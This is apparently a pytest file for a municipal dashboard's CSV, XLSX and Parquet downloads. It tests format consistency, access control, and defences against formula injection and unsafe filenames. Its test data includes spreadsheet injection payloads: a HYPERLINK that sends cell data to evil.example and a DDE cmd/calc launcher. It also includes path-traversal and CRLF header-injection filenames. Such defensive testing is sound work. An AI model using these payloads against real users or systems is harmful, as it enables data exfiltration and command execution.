"""Every table a page offers for download comes as CSV, XLSX and Parquet (issue 15).

The page downloads are called as the browser calls them, on an app that registers only the pages
(the shell and the API stay out of it): a link download (dashboard/file_links.py) by posting the
callback that sets the links' hrefs with the page's values, then following each link; a button
download (profile, survey progress, one municipality's laws) by a POST to Dash's callback
endpoint with the clicked format button as the trigger. Each format opens with its usual reader
(pandas for CSV, openpyxl and pandas for XLSX, pyarrow for Parquet) and holds the CSV's columns
and rows; the three file names differ only in their extension. Formula injection: a text cell
starting with "=" gets a leading quote in CSV and is stored as text, never as a formula, in XLSX.
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import math
import warnings

import dash
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from dash import html
from openpyxl import load_workbook

from dashboard import ids, laws
from dashboard.components.downloads import (
    FORMATS,
    chosen_format,
    clicked,
    csv_download,
    download_control,
    download_name,
    format_id,
    group_id,
    table_download,
)
from dashboard.config import Settings
from dashboard.context import AppContext
from dashboard.views.heatmap import export as heatmap_export
from dashboard.views.heatmap import ids as heatmap_ids
from dashboard.views.heatmap import page as heatmap
from dashboard.views.heatmap.data import compute_view
from dashboard.views.heatmap.data import read_state as read_heatmap_state
from dashboard.views.legislation import ids as legislation_ids
from dashboard.views.legislation import page as legislation_page
from dashboard.views.maps import ids as maps_ids
from dashboard.views.maps import page as maps
from dashboard.views.policy import callbacks as policy_callbacks
from dashboard.views.policy import ids as policy_ids
from dashboard.views.policy import page as policy
from dashboard.views.profile import ids as profile_ids
from dashboard.views.profile import page as profile
from dashboard.views.roadmap import export as roadmap_export
from dashboard.views.roadmap import ids as roadmap_ids
from dashboard.views.roadmap import page as roadmap
from dashboard.views.survey_progress import callbacks as survey_progress_callbacks
from dashboard.views.survey_progress import ids as survey_progress_ids
from dashboard.views.survey_progress import page as survey_progress
from pipelines.maturity.roadmap import COMPONENTS, DEFAULT_WEIGHTS

MIMETYPES = {"csv": "text/csv",
             "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             "parquet": "application/vnd.apache.parquet"}
ENSCHEDE = "NL_GM0153"  # consented, answered in 2025 and 2026, in the eGov benchmark
AT = "2026-07-01"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "=1+1", "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1"]
TRIGGERS = tuple("=+-@\t\r")


# ------------------------------------------------------------------ reading the files


def _bytes(sent: dict) -> bytes:
    return base64.b64decode(sent["content"]) if sent["base64"] else sent["content"].encode()


def read(fmt: str, data: bytes) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data), keep_default_na=False)
    if fmt == "xlsx":
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # a complete workbook: no "no default style" etc.
            wb = load_workbook(io.BytesIO(data))
        assert wb.sheetnames == ["data"]
        formulas = [c.coordinate for row in wb["data"].iter_rows() for c in row
                    if c.data_type == "f"]
        assert not formulas
        return pd.read_excel(io.BytesIO(data), engine="openpyxl", keep_default_na=False)
    return pq.read_table(io.BytesIO(data)).to_pandas()


def _plain(value):
    """A cell as the three formats can agree on it: null for missing or empty, bools, numbers
    as rounded floats (CSV and XLSX do not keep "2026" apart from 2026), text unquoted (the CSV's
    leading quote before a formula character is how CSV keeps the same text)."""
    if isinstance(value, np.generic):
        value = value.item()
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float):
        return None if math.isnan(value) else round(value, 9)
    if isinstance(value, bool):
        return value
    if isinstance(value, int):
        return float(value)
    if isinstance(value, (dt.date, pd.Timestamp)):
        value = value.isoformat()
    value = str(value)
    if value == "":
        return None
    if value in ("True", "False"):
        return value == "True"
    if value[:1] == "'" and value[1:2] in TRIGGERS:
        value = value[1:]
    try:
        return round(float(value), 9)
    except ValueError:
        return value


def assert_same_table(csv: pd.DataFrame, other: pd.DataFrame, fmt: str) -> None:
    assert [str(c) for c in other.columns] == [str(c) for c in csv.columns], fmt
    assert len(other) == len(csv), fmt
    for col in range(csv.shape[1]):
        pairs = zip(csv.iloc[:, col].tolist(), other.iloc[:, col].tolist(), strict=True)
        bad = [(i, a, b) for i, (a, b) in enumerate(pairs) if _plain(a) != _plain(b)]
        assert not bad, (fmt, csv.columns[col], bad[:5])


def assert_three_formats(sent: dict[str, dict]) -> pd.DataFrame:
    """The CSV, XLSX and Parquet of one download hold the same table; returns the CSV. `sent`:
    what a dcc.Download got, or a link's answer as `fetched` writes it."""
    names = {fmt: s["filename"] for fmt, s in sent.items()}
    stems = {n.rsplit(".", 1)[0] for n in names.values()}
    assert len(stems) == 1, names  # one name, three extensions
    for fmt, s in sent.items():
        assert s["filename"].endswith("." + fmt) and s["type"] == MIMETYPES[fmt], s["filename"]
        assert s["base64"] is (fmt != "csv")
    tables = {fmt: read(fmt, _bytes(s)) for fmt, s in sent.items()}
    csv = tables["csv"]
    assert len(csv.columns) > 1
    for fmt in ("xlsx", "parquet"):
        assert_same_table(csv, tables[fmt], fmt)
    return csv


# ------------------------------------------------------------------ the callbacks, as posted


def pages_client(ctx: AppContext, *pages):
    """A Flask test client of a Dash app with only these pages' callbacks."""
    app = dash.Dash(__name__, suppress_callback_exceptions=True)
    app.layout = html.Div()
    for page in pages:
        page.register(app, ctx)
    return app.server.test_client()


def post(client, download_id: str, button: str, values: dict) -> dict | None:
    """Click `button` as the browser does; what the dcc.Download `download_id` gets (None when
    the callback sent nothing)."""
    deps = client.get("/_dash-dependencies").get_json()
    spec = next(d for d in deps if d["output"] == f"{download_id}.data")
    inputs = [{**i, "value": int(i["id"] == button)} for i in spec["inputs"]]
    assert button in {i["id"] for i in inputs}, (button, inputs)
    state = [{**s, "value": values.get(s["id"])} for s in spec["state"]]
    r = client.post("/_dash-update-component", json={
        "output": spec["output"], "outputs": {"id": download_id, "property": "data"},
        "inputs": inputs, "state": state, "changedPropIds": [f"{button}.n_clicks"]})
    if r.status_code == 204:
        return None
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    return r.get_json()["response"][download_id]["data"]


def post_every_format(client, download_id: str, csv_button: str, values: dict) -> dict:
    return {fmt: post(client, download_id, format_id(csv_button, fmt), values) for fmt in FORMATS}


def link_hrefs(client, csv_button: str, values: dict) -> dict[str, str | None]:
    """The hrefs the page's callback gives the control's three links for these values."""
    deps = client.get("/_dash-dependencies").get_json()
    want = f"{csv_button}.href"
    spec = next(d for d in deps if want in d["output"].strip(".").split("..."))
    inputs = [{**i, "value": values.get(i["id"])} for i in spec["inputs"]]
    state = [{**i, "value": values.get(i["id"])} for i in spec.get("state", [])]
    outputs = [{"id": o.rsplit(".", 1)[0], "property": o.rsplit(".", 1)[1]}
               for o in spec["output"].strip(".").split("...")]
    r = client.post("/_dash-update-component", json={
        "output": spec["output"], "outputs": outputs if len(outputs) > 1 else outputs[0],
        "inputs": inputs, "state": state,
        "changedPropIds": [f"{spec['inputs'][0]['id']}.{spec['inputs'][0]['property']}"]})
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    response = r.get_json()["response"]
    return {fmt: response[format_id(csv_button, fmt)]["href"] for fmt in FORMATS}


def fetched(client, href: str) -> dict:
    """A link followed: the answer as a dcc.Download would have got it (name, type, content)."""
    r = client.get(href)
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    name = r.headers["Content-Disposition"].split('filename="', 1)[1].rstrip('"')
    csv = r.mimetype == "text/csv"
    return {"filename": name, "type": r.mimetype, "base64": not csv,
            "content": r.get_data(as_text=True) if csv else base64.b64encode(r.data).decode()}


def follow_every_format(client, csv_button: str, values: dict) -> dict:
    links = link_hrefs(client, csv_button, values)
    assert all(links.values()), links
    return {fmt: fetched(client, links[fmt]) for fmt in FORMATS}


@pytest.fixture(scope="module")
def nl_pages(nl_open_ctx, monkeypatch_module):
    # the legislation page evaluates at "today": the same date every year this test runs
    monkeypatch_module.setattr(laws, "today", lambda: dt.date.fromisoformat(AT))
    return pages_client(nl_open_ctx, heatmap, legislation_page, maps, policy, profile, roadmap)


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as mp:
        yield mp


HEATMAP = {heatmap_ids.COUNTRY: "NL", heatmap_ids.NUTS2: "NL31", heatmap_ids.SIZE: "all",
           heatmap_ids.PEERS: None, heatmap_ids.WAVE: "2026", heatmap_ids.SORT: "overall",
           heatmap_ids.MODE: "municipalities"}
LEGISLATION = {legislation_ids.COUNTRY: "NL", legislation_ids.NUTS2: None,
               legislation_ids.SIZE: None, legislation_ids.AT: AT, legislation_ids.HORIZON: None,
               legislation_ids.PICKER: ENSCHEDE, legislation_ids.CONDITIONS: [],
               legislation_ids.NIS2: None}
MAPS = {maps_ids.MEASURE: "ALL", maps_ids.STAT: "median", maps_ids.WAVE: "2026",
        maps_ids.LEVEL: "country", maps_ids.COUNTRY: "NL"}
POLICY = {policy_ids.COUNTRY: "NL", policy_ids.NUTS2: None, policy_ids.SIZE: None,
          policy_ids.MEASURE: "per"}
PROFILE = {profile_ids.VIEW: "blocks", profile_ids.PICKER: ENSCHEDE, profile_ids.WAVE: "2026",
           profile_ids.PEERS: "country_size", profile_ids.CUSTOM: []}
ROADMAP = {roadmap_ids.PICKER: ENSCHEDE, roadmap_ids.WAVE: "2026", roadmap_ids.TARGET: 3,
           roadmap_ids.DONE: [], roadmap_ids.FOCUS: [{"label": "GOV-01", "value": "GOV-01"}],
           **{roadmap_ids.WEIGHT[c]: w for c, w in zip(COMPONENTS, DEFAULT_WEIGHTS.raw(), strict=True)}}

# (page download, the CSV link of its control, the state its links follow)
LINK_DOWNLOADS = [
    ("heatmap", heatmap_ids.CSV_BUTTON, HEATMAP),
    ("heatmap-regions", heatmap_ids.CSV_BUTTON,
     {**HEATMAP, heatmap_ids.NUTS2: "all", heatmap_ids.MODE: "regions"}),
    ("legislation-readiness", legislation_ids.AGG_CSV_BUTTON, LEGISLATION),
    ("legislation-heatmap", legislation_ids.HEAT_CSV_BUTTON, LEGISLATION),
    *[(f"maps-{kind}", maps_ids.download_button_id(kind), MAPS) for kind in maps_ids.DOWNLOADS],
    *[(f"policy-{policy_callbacks.WHICH[b]}", b, POLICY) for b in policy_ids.CSV_BUTTONS],
    ("roadmap", roadmap_ids.CSV_BUTTON, ROADMAP),
]
# (page download, its dcc.Download, the CSV button of its control, the state it reads)
BUTTON_DOWNLOADS = [
    ("legislation-municipality", legislation_ids.MUN_CSV, legislation_ids.MUN_CSV_BUTTON,
     LEGISLATION),
    *[(f"profile-{kind}", target, button, PROFILE) for kind, button, target in profile_ids.DOWNLOADS],
]


@pytest.mark.parametrize(("button", "values"), [case[1:] for case in LINK_DOWNLOADS],
                         ids=[c[0] for c in LINK_DOWNLOADS])
def test_every_page_link_in_every_format(nl_pages, button, values):
    sent = follow_every_format(nl_pages, button, {**values, ids.LANG: "en"})
    csv = assert_three_formats(sent)
    assert len(csv) > 0


@pytest.mark.parametrize(("download_id", "button", "values"),
                         [case[1:] for case in BUTTON_DOWNLOADS], ids=[c[0] for c in BUTTON_DOWNLOADS])
def test_every_page_download_in_every_format(nl_pages, download_id, button, values):
    sent = post_every_format(nl_pages, download_id, button, {**values, ids.LANG: "en"})
    assert all(s is not None for s in sent.values()), sent
    csv = assert_three_formats(sent)
    assert len(csv) > 0


def test_the_csv_link_downloads_what_the_button_did(nl_open_ctx, nl_pages):
    """The CSV link keeps the button's id and its file: what the callback sent (the page's
    frame through table_download), byte for byte."""
    sent = follow_every_format(nl_pages, heatmap_ids.CSV_BUTTON, {**HEATMAP, ids.LANG: "en"})
    snap = nl_open_ctx.warehouse.snapshot()
    state = read_heatmap_state(nl_open_ctx, snap, country="NL", nuts2="NL31", size="all",
                               wave="2026", sort="overall", mode="municipalities")
    view = compute_view(nl_open_ctx, snap, state, "en")
    frame = heatmap_export.csv_frame(nl_open_ctx, snap, view, "en")
    before = table_download(frame, heatmap_export.csv_filename(view), "csv")  # the callback's
    assert sent["csv"] == {**before, "base64": False}
    assert sent["csv"]["filename"] == "ds4e-heatmap-NL-NL31-2026-municipalities.csv"
    assert sent["xlsx"]["filename"] == "ds4e-heatmap-NL-NL31-2026-municipalities.xlsx"


def test_a_hostile_cell_on_a_page(nl_pages, monkeypatch):
    """A page table whose text starts with a formula character: quoted in CSV, text in XLSX."""
    hostile = pd.DataFrame({"municipality_id": [f"NL_GM{i:04d}" for i in range(len(HOSTILE))],
                            "explanation": HOSTILE, "score": np.linspace(0.1, 0.6, len(HOSTILE))})
    monkeypatch.setattr(roadmap_export, "roadmap_csv", lambda *a, **k: hostile.copy())
    sent = follow_every_format(nl_pages, roadmap_ids.CSV_BUTTON, {**ROADMAP, ids.LANG: "en"})
    assert_three_formats(sent)
    csv = pd.read_csv(io.StringIO(sent["csv"]["content"]), keep_default_na=False)
    assert csv["explanation"].tolist() == ["'" + h for h in HOSTILE]
    assert_text_cells(_bytes(sent["xlsx"]), "explanation", HOSTILE)
    assert pq.read_table(io.BytesIO(_bytes(sent["parquet"])))["explanation"].to_pylist() == HOSTILE


def assert_text_cells(xlsx: bytes, column: str, expected: list[str]) -> None:
    ws = load_workbook(io.BytesIO(xlsx))["data"]
    col = [c.value for c in ws[1]].index(column)
    cells = [row[col] for row in ws.iter_rows(min_row=2, max_row=len(expected) + 1)]
    for cell, value in zip(cells, expected, strict=True):
        assert cell.data_type == "s" and cell.value == value, (cell.coordinate, cell.value)
        assert cell.number_format == "@" and cell.quotePrefix  # stays text when edited


def test_nothing_to_download_has_no_link_in_any_format(nl_pages):
    """A roadmap that cannot be computed (no municipality) offers no link, whatever the format;
    its address asked directly answers 404 (tests/dashboard/test_file_links.py)."""
    links = link_hrefs(nl_pages, roadmap_ids.CSV_BUTTON,
                       {**ROADMAP, roadmap_ids.PICKER: None, roadmap_ids.FOCUS: [], ids.LANG: "en"})
    assert links == {fmt: None for fmt in FORMATS}
    assert nl_pages.get("/download/roadmap.csv?wave=2026").status_code == 404


# ------------------------------------------------------------------ survey progress


@pytest.fixture(scope="module")
def survey(tmp_path_factory):
    """A data folder with an open wave: two municipalities invited, one of them has answered."""
    from pipelines.survey.records import submit
    from pipelines.survey.sheet import Answer, Sheet

    ctx = AppContext.load(Settings.from_env(
        {"DS4E_DATA_DIR": str(tmp_path_factory.mktemp("survey-downloads"))}))
    now = dt.datetime.now(dt.UTC)
    _, coordinator = ctx.survey.create_wave("2026", closes_at=now + dt.timedelta(days=30),
                                            title="Downloads", now=now)
    links = ctx.survey.invite("2026", ["NL_GM0363", "NL_GM0344"], ["cio"], now=now)
    submit(ctx.survey, ctx.survey.open_link(links[0].token, now=now),
           Sheet({"STR-01": Answer(3)}), ["STR-01", "STR-02"], now=now)
    return ctx, coordinator


@pytest.mark.parametrize("button", survey_progress_ids.CSV_BUTTONS)
def test_survey_progress_downloads_in_every_format(survey, button):
    ctx, coordinator = survey
    client = pages_client(ctx, survey_progress)
    values = {survey_progress_ids.BY: "country", survey_progress_ids.TOKEN: coordinator, ids.LANG: "nl"}
    sent = post_every_format(client, survey_progress_ids.DOWNLOAD, button, values)
    csv = assert_three_formats(sent)
    assert len(csv) > 0 and coordinator not in sent["csv"]["content"]
    # the page function the callback calls, directly
    direct = survey_progress_callbacks.send(ctx, format_id(button, "parquet"), coordinator, "country", "nl")
    assert direct["filename"] == sent["parquet"]["filename"]
    # without the coordinator's token: nothing, in any format
    for fmt in FORMATS:
        assert post(client, survey_progress_ids.DOWNLOAD, format_id(button, fmt),
                    {**values, survey_progress_ids.TOKEN: "A" * 32}) is None


# ------------------------------------------------------------------ the control on every page


def _controls(ctx, lang):
    """(page, layout, the CSV button ids it must offer in three formats)."""
    yield heatmap, heatmap.layout(ctx, lang, {"country": "NL"}), [heatmap_ids.CSV_BUTTON]
    yield legislation_page, legislation_page.layout(ctx, lang, {"country": "NL"}), [
        legislation_ids.AGG_CSV_BUTTON, legislation_ids.HEAT_CSV_BUTTON,
        legislation_ids.MUN_CSV_BUTTON]
    yield maps, maps.layout(ctx, lang), [maps_ids.download_button_id(k)
                                         for k in maps_ids.DOWNLOADS]
    yield policy, policy.layout(ctx, lang, {"country": "NL"}), list(policy_ids.CSV_BUTTONS)
    yield profile, profile.layout(ctx, lang, {"m": ENSCHEDE}), [b for _, b, _ in profile_ids.DOWNLOADS]
    yield roadmap, roadmap.layout(ctx, lang, {"m": ENSCHEDE}), [roadmap_ids.CSV_BUTTON]


BUTTONS = {legislation_ids.MUN_CSV_BUTTON, *(b for _, b, _ in profile_ids.DOWNLOADS)}


@pytest.mark.parametrize(("lang", "label"), [("nl", "Downloaden"), ("en", "Download")])
def test_every_page_offers_three_formats_in_a_labelled_group(nl_open_ctx, tree, lang, label):
    for page, layout, buttons in _controls(nl_open_ctx, lang):
        for csv_id in buttons:
            (group,) = tree.find(layout, id=group_id(csv_id))
            assert tree.kind(group) == "Fieldset", (page.__name__, csv_id)
            legend = [c for c in tree.walk(group) if tree.kind(c) == "Legend"]
            assert len(legend) == 1 and tree.text(legend[0]).startswith(label), csv_id
            found = [tree.find(group, id=format_id(csv_id, fmt)) for fmt in FORMATS]
            assert all(len(f) == 1 for f in found), (page.__name__, csv_id)
            found = [f[0] for f in found]
            assert [tree.text(b) for b in found] == ["CSV", "XLSX", "Parquet"]
            if csv_id in BUTTONS:  # a callback's buttons
                assert all(tree.kind(b) == "Button" and b.type == "button" and b.title
                           for b in found)
            else:  # links to the download route, looking like the buttons
                assert all(tree.kind(b) == "A" and b.download == "" and b.title
                           and "btn" in b.className for b in found), csv_id


def test_survey_progress_offers_three_formats(survey, tree):
    ctx, coordinator = survey
    page = survey_progress.layout(ctx, "en", {"token": coordinator})
    for csv_id, label in ((survey_progress_ids.CSV_RATES, "Download rates"),
                          (survey_progress_ids.CSV_NON_RESPONDERS, "Download non-responders"),
                          (survey_progress_ids.CSV_ALL, "Download all municipalities")):
        (group,) = tree.find(page, id=group_id(csv_id))
        assert tree.text(group).startswith(label)
        assert all(tree.find(group, id=format_id(csv_id, fmt)) for fmt in FORMATS)


def test_several_controls_on_a_page_name_their_table(nl_open_ctx, tree):
    """Screen readers hear which table a control downloads; the card title shows it to the eye."""
    page = maps.layout(nl_open_ctx, "en")
    (group,) = tree.find(page, id=group_id(maps_ids.download_button_id("regions")))
    assert tree.text(group).startswith("Download")
    hidden = tree.find(group, className="visually-hidden")
    assert [tree.text(h) for h in hidden] == [" (all regions)"]


# ------------------------------------------------------------------ table_download itself


def test_table_download_writes_each_format_with_its_extension():
    df = pd.DataFrame({"name": ["Enschede", "Groningen"], "level": [3, 1],
                       "share": [0.25, np.nan], "flag": [True, False]})
    for fmt in FORMATS:
        sent = table_download(df, "ds4e-x-NL-2026.csv", fmt)
        assert sent["filename"] == f"ds4e-x-NL-2026.{fmt}" and sent["type"] == MIMETYPES[fmt]
    sent = {fmt: table_download(df, "ds4e-x-NL-2026.csv", fmt) for fmt in FORMATS}
    assert_three_formats(sent)
    parquet = pq.read_table(io.BytesIO(_bytes(sent["parquet"]))).to_pandas()
    assert parquet["level"].dtype.kind == "i" and parquet["flag"].dtype == bool  # typed


@pytest.mark.parametrize(("name", "fmt", "expected"), [
    ("legislation-NL_GM0153.csv", "xlsx", "legislation-NL_GM0153.xlsx"),
    ("legislation-NL_GM0153", "parquet", "legislation-NL_GM0153.parquet"),
    ("a/../../etc/passwd.csv", "xlsx", "a_etc_passwd.xlsx"),
    ("x\r\nSet-Cookie: a=b.CSV", "parquet", "x_Set-Cookie_a_b.parquet"),
    ("../..", "xlsx", "ds4e.xlsx"),
    ("report.xlsx", "csv", "report.csv"),
])
def test_download_names(name, fmt, expected):
    assert download_name(name, fmt) == expected
    assert table_download(pd.DataFrame({"a": [1]}), name, fmt)["filename"] == expected


@pytest.mark.parametrize("fmt", ["xls", "XLSX", "", None, "../parquet", {"x": 1}])
def test_an_unknown_format_is_csv(fmt):
    sent = table_download(pd.DataFrame({"a": ["=1"]}), "t.csv", fmt)
    assert sent["filename"] == "t.csv" and sent["content"] == "a\n'=1\n" and not sent["base64"]


def test_formulas_are_neutralised_in_csv_and_text_in_xlsx():
    df = pd.DataFrame({"name": HOSTILE, "level": range(len(HOSTILE))})
    csv = pd.read_csv(io.StringIO(table_download(df, "t", "csv")["content"]),
                      keep_default_na=False)
    assert csv["name"].tolist() == ["'" + h for h in HOSTILE]
    assert csv["level"].tolist() == list(range(len(HOSTILE)))  # numbers stay numbers
    assert_text_cells(_bytes(table_download(df, "t", "xlsx")), "name", HOSTILE)
    parquet = pq.read_table(io.BytesIO(_bytes(table_download(df, "t", "parquet"))))
    assert parquet["name"].to_pylist() == HOSTILE  # no spreadsheet opens it: the data as is
    assert csv_download(df, "t.csv") == table_download(df, "t.csv", "csv")


def test_columns_arrow_cannot_type_come_as_their_text():
    """A column of mixed values or of lists has no flat Arrow type: it comes as text, the same
    text as in the CSV, instead of failing the download."""
    df = pd.DataFrame({"mixed": [1, "a", None], "lists": [["NL", "BE"], [], None],
                       "date": [dt.date(2026, 1, 1), None, dt.date(2027, 6, 28)],
                       "n": [1, 2, 3]})
    sent = {fmt: table_download(df, "t.csv", fmt) for fmt in FORMATS}
    assert_three_formats(sent)
    parquet = pq.read_table(io.BytesIO(_bytes(sent["parquet"]))).to_pandas()
    assert parquet["mixed"].tolist()[:2] == ["1", "a"]
    assert parquet["lists"].tolist()[:2] == ["['NL', 'BE']", "[]"]
    assert df["mixed"].tolist()[:2] == [1, "a"]  # the caller's frame is left as it was


def test_an_empty_table_keeps_its_header_in_every_format():
    df = pd.DataFrame({"law": pd.Series([], dtype=str), "share": pd.Series([], dtype=float)})
    for fmt in FORMATS:
        back = read(fmt, _bytes(table_download(df, "t", fmt)))
        assert list(back.columns) == ["law", "share"] and len(back) == 0, fmt


def test_which_button_was_clicked():
    a, b = "policy-csv-leverage", "policy-csv-lobby"
    assert clicked(a, a, b) == (a, "csv")
    assert clicked(f"{b}-xlsx", a, b) == (b, "xlsx")
    assert clicked(f"{b}-parquet", a, b) == (b, "parquet")
    assert clicked("policy-country", a, b) is None and clicked(None, a) is None
    assert chosen_format(f"{a}-parquet", a) == "parquet"
    assert chosen_format({"type": "x"}, a) == "csv"


def test_the_control_can_be_disabled_and_relabelled(tree):
    control = download_control("t-csv", "nl", label="Download respons", disabled=True,
                               color="primary", outline=False)
    assert control.disabled and control.id == group_id("t-csv")
    assert tree.text(control).startswith("Download respons")
    assert [b.className for b in tree.find(control, type="button")] == ["btn btn-primary"] * 3
    titles = [b.title for b in tree.find(control, type="button")]
    assert titles[1] == "XLSX: Excel-werkmap" and titles[2].startswith("Parquet:")
